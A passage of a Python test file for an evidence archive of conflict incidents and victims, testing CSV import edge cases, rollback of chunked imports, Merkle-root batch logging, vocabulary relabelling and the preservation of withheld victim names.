        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".part")) == ["ex.csv.part"]


def test_blank_lines_before_the_header_and_a_trailing_comma(db_cli: Cli, tmp_path: Path) -> None:
    """Spreadsheets' habits: an empty first line, a trailing comma on every line, padded keys; lines counted."""
    content = f"\n{BAD_INCIDENT_HEADER},started_precision,facility_damage,\n" \
        "NEW-1,killing,2023-01-01, idlib , sdf+isis , day , moderate ,\n"
    report, _ = _import(db_cli, "--incidents", _write(tmp_path, "t.csv", content))
    assert report["incidents"]["created"] == 1
    state = _states(db_cli.home)["incident NEW-1"]
    assert (state["attribution"], state["started_precision"], state["facility_damage"]) == \
        ("isis+sdf", "day", "moderate")
    _, err = _import(db_cli, "--incidents", _write(tmp_path, "t2.csv", content.replace("NEW-1,killing", "NEW-2,kill")),
                     expect=1)
    assert "t2.csv:3: type" in err


def test_special_files_fail_cleanly(db_cli: Cli, tmp_path: Path) -> None:
    """`/dev/zero` ends at the line limit with one problem instead of reading for ever."""
    counts = _counts(db_cli.home)
    report, err = _import(db_cli, "--incidents", "/dev/zero", expect=1)
    assert report["incidents"]["errors"][0]["reason"].startswith("a NUL byte") or "line longer" in err
    _, _, err = db_cli("import", "--victims", str(tmp_path / "absent.csv"), expect=2)
    assert "cannot read it" in err and "internal error" not in err
    assert _counts(db_cli.home) == counts


def test_import_streams_in_chunks_and_rolls_back_every_chunk(db_cli: Cli, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """With a chunk of 2 rows the files are written in several chunks inside the one transaction: the result,
    the events and the Merkle roots are those of one batch; a bad last row undoes the chunks already written."""
    from archive.services import records_io

    monkeypatch.setattr(records_io, "CHUNK", 2)
    counts = _counts(db_cli.home)
    bad = VICTIMS + "VIC-9,INC-1,,false,male,,,true,,2023-12-09,2023-12-10,maybe,,\n"
    report, err = _import(db_cli, "--incidents", _write(tmp_path, "i.csv", INCIDENTS),
                          "--victims", _write(tmp_path, "v.csv", bad), expect=1)
    assert "v.csv:6: family_consent" in err and report["incidents"]["event"] is None
    assert _counts(db_cli.home) == counts
    dup = VICTIMS + VICTIMS.splitlines()[1] + "\n"  # a duplicate three chunks after its first line
    _, err = _import(db_cli, "--incidents", _write(tmp_path, "i.csv", INCIDENTS),
                     "--victims", _write(tmp_path, "v.csv", dup), expect=1)
    assert "v.csv:6: ref: duplicate ref 'VIC-1' (first on line 2)" in err and _counts(db_cli.home) == counts
    report = _good(db_cli, tmp_path)
    assert report["incidents"]["created"] == 3 and report["victims"]["created"] == 4
    batches = [e for e in _events(db_cli.home) if e["details"].get("change") == "import"]
    assert [b["details"]["records"] for b in batches] == [6, 6]
    assert [b["seq"] for b in batches] == [report["incidents"]["event"]["seq"], report["victims"]["event"]["seq"]]
    again = _good(db_cli, tmp_path)
    assert again["victims"]["unchanged"] == 4 and again["victims"]["event"] is None


def test_streaming_batch_matches_record_batch(db_cli: Cli, tmp_path: Path) -> None:
    """BatchWriter over some changes gives the root `batch_root` gives over the same commitments, and its rows
    name the event it appends."""
    from sqlmodel import Session, col, select

    from archive.context import Archive
    from archive.custody.log import utc_now
    from archive.db import transaction
    from archive.records.changes import BatchWriter, Change, batch_root, new_id
    from archive.records.tables import RecordChange

    archive = Archive.open(db_cli.home, "tester")
    try:
        keys = archive.runtime.keys.catalog()
        with transaction(archive.engine) as session:
            batch = BatchWriter(session, keys, archive.actor, what="victims", at=utc_now())
            for n in range(3):
                batch.add([Change(new_id("vic"), "victim", "create", {"ref": f"S-{n}"}, "test") for _ in range(n)])
            seq, root = batch.finish() or (0, "")
        with Session(archive.engine) as session:
            rows = session.exec(select(RecordChange).where(RecordChange.event_seq == seq)
                                .order_by(col(RecordChange.batch_index))).all()
        assert [r.batch_index for r in rows] == [0, 1, 2]
        assert root == batch_root([r.commitment for r in rows])
        assert _events(db_cli.home)[-1]["seq"] == seq and _events(db_cli.home)[-1]["details"]["merkle_root"] == root
    finally:
        archive.close()


def test_vocab_relabel_keeps_groups_and_former_names(db_cli: Cli, tmp_path: Path) -> None:
    """A file that only relabels a term keeps its group (an incident type's drives facility_attacks) and former
    names; moving an incident type to another group is refused like a party's."""
    _import(db_cli, "--incidents", _write(tmp_path, "m.csv", f"{BAD_INCIDENT_HEADER}\n"
                                          "M1,attack_medical_facility,2023-03-01,idlib,syrian_regime\n"))
    before = db_cli.json("stats")["total"]["facility_attacks"]
    named = {"format": "evidence-vocab/1", "vocabularies": {"parties": [
        {"key": "syrian_regime", "label": "Syrian regime forces", "group": "main", "former_names": ["Assad forces"]}]}}
    db_cli.json("vocab", "load", _write(tmp_path, "fn.json", json.dumps(named)))
    party = {t["key"]: t for t in db_cli.json("vocab", "show", "parties")["parties"]}["syrian_regime"]
    assert party["former_names"] == ["Assad forces"]
    relabel = {"format": "evidence-vocab/1", "vocabularies": {
        "incident_types": [{"key": "attack_medical_facility", "label": "Hospital attack"}],
        "parties": [{"key": "syrian_regime", "label": "Government forces", "group": party["group"]}]}}
    report = db_cli.json("vocab", "load", _write(tmp_path, "rl.json", json.dumps(relabel)))
    assert report["updated"] == 2
    assert db_cli.json("stats")["total"]["facility_attacks"] == before == 1
    types = {t["key"]: t for t in db_cli.json("vocab", "show", "incident_types")["incident_types"]}
    assert types["attack_medical_facility"]["label"] == "Hospital attack"
    assert types["attack_medical_facility"]["group"] is not None
    now = {t["key"]: t for t in db_cli.json("vocab", "show", "parties")["parties"]}["syrian_regime"]
    assert now["former_names"] == party["former_names"] and now["label"] == "Government forces"
    move = {"format": "evidence-vocab/1", "vocabularies": {
        "incident_types": [{"key": "attack_medical_facility", "label": "x", "group": None}]}}
    _, _, err = db_cli("vocab", "load", _write(tmp_path, "mv.json", json.dumps(move)), expect=None)
    assert "may not move it" in err


def test_a_large_import_refreshes_the_planner_statistics(db_cli: Cli, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """After an import of many rows (here: the threshold lowered) the planner has statistics of the record
    tables: SQLite's sqlite_stat1, PostgreSQL's last analyze."""
    from archive.context import Archive
    from archive.services import records_io

    monkeypatch.setattr(records_io, "ANALYZE_AFTER", 5)
    _good(db_cli, tmp_path)
    archive = Archive.open(db_cli.home)
    try:
        with archive.engine.connect() as conn:
            if conn.dialect.name == "postgresql":
                analyzed = conn.execute(text("SELECT count(*) FROM pg_stat_user_tables WHERE relname = 'victims' "
                                             "AND (last_analyze IS NOT NULL OR last_autoanalyze IS NOT NULL)"))
            else:
                analyzed = conn.execute(text("SELECT count(*) FROM sqlite_stat1 WHERE tbl = 'victims'"))
            assert analyzed.scalar_one() >= 1
    finally:
        archive.close()


def test_a_vocabulary_file_has_a_size_limit(cli: Cli) -> None:
    _, _, err = cli("vocab", "load", "/dev/zero", expect=2)
    assert "larger than 16 MB" in err


def test_an_empty_name_withheld_cell_never_lifts_the_withholding(db_cli: Cli, tmp_path: Path) -> None:
    """Only `false` lifts it (with the name); an empty cell, like an absent column, keeps what the family asked."""
    _good(db_cli, tmp_path)
    before = _states(db_cli.home)
    assert before["victim VIC-3"]["name_withheld"] is True
    header = "ref,incident_ref,name,name_withheld,sex,civilian,date_documented\n"
    _import(db_cli, "--victims", _write(tmp_path, "empty.csv", header + f"VIC-3,INC-1,{WITHHELD},,female,true,"
                                        "2024-01-05\n"))
    assert _states(db_cli.home)["victim VIC-3"]["name_withheld"] is True
    out = tmp_path / "out.csv"
    db_cli("export-records", "--victims", str(out))
    assert WITHHELD not in out.read_text(encoding="utf-8")
